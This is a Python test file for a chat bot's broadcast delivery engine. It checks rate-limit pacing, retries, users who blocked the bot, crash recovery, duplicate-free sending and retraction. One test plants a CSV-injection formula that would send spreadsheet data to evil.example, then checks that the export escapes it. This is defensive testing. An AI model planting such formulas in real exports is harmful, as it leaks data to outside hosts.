"""The delivery engine against a real local HTTP platform that enforces rate limits.

Stories: an early win reaches everyone once at the platform's pace; a throttled workspace waits
its Retry-After; a blocked user is skipped, not retried; a platform outage is retried and then
given up on with a reason; a sender that dies mid-send is reconciled without duplicates; two
senders drain one broadcast without sending any row twice; a retract deletes every copy.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from adapters.fake.http_port import HttpPort
from bot.broadcasts import ledger, service
from bot.broadcasts.limiter import Limiter, Limits
from bot.broadcasts.sender import Sender
from bot.broadcasts.tables import Broadcast, Delivery
from bot.clock import FakeClock
from bot.core import Core
from bot.people.tables import Identity, Person
from storage.db import Database
from tests.fakes.ratelimited_platform import PlatformConfig, RateLimitedPlatform
from tests.pacing import RecordingLimiter, rate, refusals

CHANGE = "changelead@northbridge.example"
FAST = {"fakehttp": Limits(workspace_per_s=2000, conversation_per_s=2000, burst=20)}


@pytest.fixture
async def platform() -> AsyncIterator[RateLimitedPlatform]:
    p = RateLimitedPlatform(PlatformConfig(workspace_rate=2000, conversation_rate=2000, burst=50))
    await p.start()
    yield p
    await p.stop()


@pytest.fixture
async def port(loaded: Core, platform: RateLimitedPlatform) -> AsyncIterator[HttpPort]:
    hp = HttpPort(platform.url)
    loaded.add_port(hp)
    yield hp
    await hp.close()


async def author(core: Core) -> str:
    async with core.db.session() as s:
        p = (await s.execute(select(Person).where(Person.email == CHANGE))).scalar_one()
        return p.id


async def everyone_count(core: Core) -> int:
    async with core.db.session() as s:
        return len((await s.execute(select(Person.id))).all())


async def open_dms(core: Core) -> None:
    """Everyone has talked to the bot before: their DM conversation is known."""
    async with core.db.session() as s:
        for pid, email in (await s.execute(select(Person.id, Person.email))).all():
            uid = f"U-{email}"
            s.add(Identity(platform="fakehttp", workspace="W1", user_id=uid, person_id=pid,
                           dm={"platform": "fakehttp", "workspace": "W1",
                               "conversation_id": f"D-{uid}", "is_direct": True, "data": []}))


async def send_until_settled(core: Core, sender: Sender, clock: FakeClock, rounds: int = 30) -> None:
    """Drain; move the clock on so retries come due; until nothing is left to send."""
    for _ in range(rounds):
        await sender.drain()
        async with core.db.session() as s:
            open_ = await s.scalar(select(Broadcast.id).where(
                Broadcast.state.in_(("sending", "retracting"))).limit(1))
        if open_ is None:
            return
        clock.advance(timedelta(seconds=30))
        await ledger.release_stale(core.db, clock.now())
    raise AssertionError("the broadcast never settled")


async def office_hours_for_all(core: Core) -> None:
    """These are delivery stories at Monday 10:00: the night worker's shift (17:00-23:00) would
    hold his DM for hours, so here he works office hours too (tests/test_broadcast_hours.py has
    the shift stories)."""
    async with core.db.session() as s:
        await s.execute(update(Person).values(work_pattern=None))


async def publish(core: Core, audience: str = "everyone") -> str:
    await office_hours_for_all(core)
    return await service.publish_to_staff(core, await author(core), title="Early win",
                                          text="Family network meetings now run in every team.",
                                          audience=audience)


async def test_an_early_win_reaches_everyone_exactly_once(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    bid = await publish(loaded)
    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST)), clock)

    n = await everyone_count(loaded)
    assert len(platform.keyed()) == n and platform.duplicates() == 0
    st = await service.status(loaded, bid)
    assert st.broadcast.state == "done" and st.counts["sent"] == n
    async with loaded.db.session() as s:
        refs = (await s.execute(select(Delivery.message_id).where(
            Delivery.broadcast_id == bid))).scalars().all()
    assert all(refs), "every row keeps the platform's message reference"
    report = [d for d in platform.deliveries if "has finished: delivered to" in d.text]
    assert len(report) == 1 and report[0].conversation == f"D-U-{CHANGE}"


async def test_pacing_stays_within_the_workspace_limit(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    # A platform allowing 40/s with a burst of 2 (network jitter) would accept every slot the
    # sender's limiter granted: the sender itself never bursts. The slots are judged, not the
    # arrivals: after a stalled event loop, sends whose slots have passed leave together.
    limiter = RecordingLimiter({"fakehttp": Limits(workspace_per_s=40, conversation_per_s=40)})
    await open_dms(loaded)
    await publish(loaded, "teams: assessment")  # the team and its lead: 6 people
    await send_until_settled(loaded, Sender(loaded, limiter=limiter), clock)

    assert len(platform.keyed()) == 6 and platform.duplicates() == 0
    slots = [at for ws, at in limiter.slots if ws == "W1"]
    assert len(slots) >= 6
    assert refusals(slots, rate=40, burst=2) == 0, "a paced sender is never throttled"
    # Only the ceiling is this story's: how close to the limit a sender gets is a speed figure
    # (bench/broadcast.py prints it).
    assert rate(slots) <= 40 * 1.01


async def test_a_429_waits_retry_after_and_nothing_is_lost(loaded: Core, clock: FakeClock) -> None:
    # The platform allows 100/s; the sender is misconfigured to try 2,000/s.
    platform = RateLimitedPlatform(PlatformConfig(workspace_rate=100, conversation_rate=100, burst=2))
    await platform.start()
    hp = HttpPort(platform.url)
    loaded.add_port(hp)
    try:
        bid = await publish(loaded)
        sender = Sender(loaded, limiter=Limiter(FAST))
        await send_until_settled(loaded, sender, clock)
    finally:
        await hp.close()
        await platform.stop()
    n = await everyone_count(loaded)
    assert platform.rejected_429 > 0 and sender.stats.rate_limited > 0
    assert len(platform.keyed()) == n and platform.duplicates() == 0
    st = await service.status(loaded, bid)
    assert st.counts["sent"] == n and st.counts["final_failed"] == 0


async def test_a_blocked_user_is_skipped_not_retried(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    platform.blocked.add("U-practitioner3@northbridge.example")
    bid = await publish(loaded)
    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST)), clock)

    st = await service.status(loaded, bid)
    assert st.counts["skipped"] == 1 and st.counts["sent"] == await everyone_count(loaded) - 1
    async with loaded.db.session() as s:
        ident = await s.get(Identity, ("fakehttp", "W1", "U-practitioner3@northbridge.example"))
        assert ident is not None and ident.reachable is False
        row = (await s.execute(select(Delivery).where(
            Delivery.broadcast_id == bid, Delivery.state == "skipped"))).scalar_one()
    assert row.attempts == 1 and "user_blocked" in (row.error or "")
    csv_text = await service.failures_csv(loaded, bid)
    assert "practitioner3@northbridge.example" in csv_text and "user_blocked" in csv_text
    assert "user_blocked" in service.status_message(st).plain


async def test_the_failures_csv_gives_a_spreadsheet_no_formula_to_run(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    """Text in the failures CSV that a spreadsheet would run as a formula (an error's words, an
    email address from an HR file) is written as text, behind an apostrophe (OWASP, CSV
    injection); the rest of the row is as stored."""
    platform.blocked.add("U-practitioner3@northbridge.example")
    bid = await publish(loaded)
    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST)), clock)
    async with loaded.db.session() as s:
        await s.execute(update(Delivery).where(Delivery.broadcast_id == bid,
                                               Delivery.state == "skipped")
                        .values(error='=HYPERLINK("https://evil.example/?"&A1)'))
        await s.execute(update(Person).where(Person.email == "practitioner3@northbridge.example")
                        .values(email="@practitioner3@northbridge.example"))
        await s.commit()
    rows = [line.split(",", 5) for line in (await service.failures_csv(loaded, bid)).splitlines()]
    assert rows[1][1] == "'@practitioner3@northbridge.example" and rows[1][3] == "skipped"
    assert rows[1][5] == '"\'=HYPERLINK(""https://evil.example/?""&A1)"'


async def test_an_outage_is_retried_with_backoff_then_given_up_with_a_reason(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    platform.fail_next = 3  # a short outage: three 503s, then recovery
    bid = await publish(loaded, "roles: leader")
    sender = Sender(loaded, limiter=Limiter(FAST), max_attempts=5)
    await send_until_settled(loaded, sender, clock)
    st = await service.status(loaded, bid)
    assert st.counts["sent"] == 1 and sender.stats.retried == 3 and platform.duplicates() == 0

    platform.fail_next = 100  # a long outage: give up after max_attempts
    bid2 = await publish(loaded, "roles: leader")
    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST), max_attempts=3), clock)
    st2 = await service.status(loaded, bid2)
    assert st2.counts["final_failed"] == 1 and st2.broadcast.state == "done"
    assert "gave up after 3 attempts" in await service.failures_csv(loaded, bid2)


async def test_a_sender_that_died_mid_send_is_reconciled_not_resent(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    bid = await publish(loaded)
    # Open everyone's DM first so rows carry their conversation (as a prior contact would).
    n = await everyone_count(loaded)
    dead = Sender(loaded, sender_id="replica-a", limiter=Limiter(FAST))
    rows = await ledger.claim(loaded.db, dead.id, clock.now(), 10, dead.lease)
    # The dying sender got 4 messages out but recorded none of them.
    msg = service.render((await service.status(loaded, bid)).broadcast)
    for row in rows[:4]:
        target = await dead._target(row)
        assert target is not None
        await port.send_keyed(target[1], msg, row.id)

    # A different replica picks them up once the lease runs out.
    clock.advance(dead.lease + timedelta(seconds=1))
    survivor = Sender(loaded, sender_id="replica-b", limiter=Limiter(FAST))
    assert await ledger.release_stale(loaded.db, clock.now()) == 10
    await send_until_settled(loaded, survivor, clock)

    assert platform.duplicates() == 0 and len(platform.keys()) == n
    assert survivor.stats.reconciled == 4
    st = await service.status(loaded, bid)
    assert st.counts["sent"] == n


async def test_a_killed_sender_task_resumes_without_duplicates(
    loaded: Core, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    platform.config.latency_s = 0.01
    hp = HttpPort(platform.url)
    loaded.add_port(hp)
    try:
        bid = await publish(loaded)
        first = Sender(loaded, sender_id="replica-a", limiter=Limiter(FAST), batch=8)
        platform.hold_after = 5  # later sends stay in flight until released
        task = asyncio.create_task(first.drain())
        while platform.held == 0:  # a sender that ended first fails here, not hangs
            assert not task.done(), task
            await asyncio.sleep(0.005)
        task.cancel()  # killed mid-flight: rows stay in `sending`
        with pytest.raises(asyncio.CancelledError):
            await task
        platform.release()
        await asyncio.sleep(0.1)  # requests (and commits) the dead sender had in flight land
        async with loaded.db.session() as s:
            stuck = (await s.execute(select(Delivery.id).where(
                Delivery.state == "sending"))).all()
        assert stuck, "the kill left rows whose outcome is unknown"
        # The same replica restarts: its own rows are reconciled at once.
        again = Sender(loaded, sender_id="replica-a", limiter=Limiter(FAST))
        assert await again.recover() > 0
        await send_until_settled(loaded, again, clock)
    finally:
        await hp.close()
    assert platform.duplicates() == 0
    assert len(platform.keys()) == await everyone_count(loaded)
    assert (await service.status(loaded, bid)).counts["sent"] == await everyone_count(loaded)


async def test_two_senders_never_send_a_row_twice(
    loaded: Core, platform: RateLimitedPlatform, settings, clock: FakeClock  # type: ignore[no-untyped-def]
) -> None:
    platform.config.latency_s = 0.01
    # Enough recipients that both senders are busy at once.
    async with loaded.db.session() as s:
        for i in range(120):
            s.add(Person(email=f"extra{i}@northbridge.example", display_name=f"Extra {i}"))
    await publish(loaded)
    cores, ports = [], []
    for _ in range(2):  # two "processes": own engine, own pool, own port
        c = Core(Database(settings.database_url), settings=settings, clock=clock)
        hp = HttpPort(platform.url)
        c.add_port(hp)
        cores.append(c)
        ports.append(hp)
    try:
        # Workspace leases off: this is about the ledger's claims alone (one workspace here;
        # tests/test_broadcast_replicas.py has the leases).
        senders = [Sender(c, limiter=Limiter(FAST), batch=5, workspace_lease=False) for c in cores]
        stats = await asyncio.gather(*(s.drain() for s in senders))
    finally:
        for c, hp in zip(cores, ports, strict=True):
            await hp.close()
            await c.db.dispose()
    n = await everyone_count(loaded)
    assert platform.duplicates() == 0 and len(platform.keyed()) == n
    assert all(st.sent > 0 for st in stats), f"both senders took part: {stats}"


async def test_retract_deletes_every_delivered_copy(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    bid = await publish(loaded)
    sender = Sender(loaded, limiter=Limiter(FAST))
    await send_until_settled(loaded, sender, clock)
    n = await everyone_count(loaded)
    assert len(platform.live()) == n

    assert await service.retract(loaded, bid, await author(loaded)) == n
    await send_until_settled(loaded, sender, clock)
    assert platform.live() == [] and sender.stats.retracted == n
    st = await service.status(loaded, bid)
    assert st.broadcast.state == "retracted"


async def test_retract_while_sending_stops_the_rest(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    bid = await publish(loaded)
    sender = Sender(loaded, limiter=Limiter(FAST))
    rows = await ledger.claim(loaded.db, sender.id, clock.now(), 3, sender.lease)
    for row in rows:
        await sender._deliver(row, time.monotonic())
    await sender._flush()
    await service.retract(loaded, bid, await author(loaded))
    await send_until_settled(loaded, sender, clock)
    st = await service.status(loaded, bid)
    assert platform.live() == [] and len(platform.keyed()) == 3
    assert st.counts["skipped"] == await everyone_count(loaded) - 3
    assert st.broadcast.state == "retracted"


async def test_a_send_that_waited_for_a_slot_past_its_lease_is_not_made(
    loaded: Core, port: HttpPort, platform: RateLimitedPlatform, clock: FakeClock
) -> None:
    """A sender's rows wait for a send slot (slow sends ahead of them) until their lease runs
    out; another sender takes them over and delivers them. When the slots free up, the first
    sender must not send them again: its lease and liveness are checked with the slot in hand,
    right before the send, not before the wait."""
    await publish(loaded)
    n = await everyone_count(loaded)
    first = Sender(loaded, limiter=Limiter(FAST), batch=10, lease=timedelta(seconds=1.5),
                   send_timeout_s=1.0, workspace_lease=False)
    slots = asyncio.Semaphore(0)  # every slot taken, as by slow sends
    first._in_flight[("fakehttp", "W1")] = slots
    stuck = asyncio.create_task(first.drain())
    for _ in range(200):  # until the first sender holds rows, waiting for a slot
        async with loaded.db.session() as s:
            held = await s.scalar(select(Delivery.id).where(Delivery.state == "sending").limit(1))
        if held is not None:
            break
        await asyncio.sleep(0.02)
    assert held is not None
    await asyncio.sleep(0.6)  # past lease - send timeout: too late to start a send
    clock.advance(timedelta(seconds=2))  # the lease has run out: another sender takes over
    await ledger.release_stale(loaded.db, clock.now())
    await send_until_settled(loaded, Sender(loaded, limiter=Limiter(FAST)), clock)
    assert len(platform.keyed()) == n and platform.duplicates() == 0
    for _ in range(16):
        slots.release()  # the slow sends ahead finish
    await asyncio.wait_for(stuck, 10)
    assert platform.duplicates() == 0, "the first sender sent rows another had delivered"
    assert len(platform.keyed()) == n
